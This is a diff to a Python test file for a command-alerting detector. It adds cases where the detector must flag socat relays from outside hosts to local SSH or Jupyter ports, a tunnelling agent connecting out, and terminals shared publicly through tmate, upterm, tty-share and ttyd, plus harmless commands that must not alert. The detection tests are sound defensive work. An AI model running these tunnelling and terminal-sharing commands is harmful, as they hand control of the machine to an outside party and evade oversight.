@@ -75,6 +75,14 @@ def test_fetched_data_not_run(command):
     ("python3 -c \"from sshtunnel import SSHTunnelForwarder; SSHTunnelForwarder(('203.0.113.5', 22), "
      "remote_bind_address=('10.0.0.5', 5432)).start()\"", "tunnel_opened_in_code"),
     ("python3 -c \"from pyngrok import ngrok; print(ngrok.connect(22, 'tcp').public_url)\"", "tunnel_opened_in_code"),
+    # reverse tunnels without ssh, terminals handed to the outside
+    ("socat OPENSSL:203.0.113.5:443,verify=0 TCP:127.0.0.1:22", "socat_relay_to_local_service"),
+    ("socat TCP4:relay.example.net:4443 TCP4:localhost:8888", "socat_relay_to_local_service"),
+    ("./agent -connect 203.0.113.5:11601 -ignore-cert", "tunnelling_tool"),
+    ("tmate -F -n s", "terminal_shared_remotely"),
+    ("upterm host --server ssh://uptermd.upterm.dev:22 -- bash", "terminal_shared_remotely"),
+    ("tty-share --public", "terminal_shared_remotely"),
+    ("ttyd -p 7681 -W bash", "web_terminal_served"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -93,6 +101,12 @@ def test_detected(command, rule):
     "jupyter lab --ServerApp.token= --port 8888",
     "python3 -c \"import paramiko; c = paramiko.SSHClient(); c.connect('10.0.0.5'); c.exec_command('uptime')\"",
     "python3 -c \"import torch; y = model.forward(x); print(y.shape)\"",
+    # socat between two local ports, or a remote address with no local service on the other side
+    "socat TCP-LISTEN:8080,bind=127.0.0.1,fork TCP:127.0.0.1:80",
+    "socat - TCP:localhost:6379",
+    "tmate -V",
+    "upterm version",
+    "ttyd --help",
 ])
 def test_not_alerted(command):
     assert alerts(command) == set()
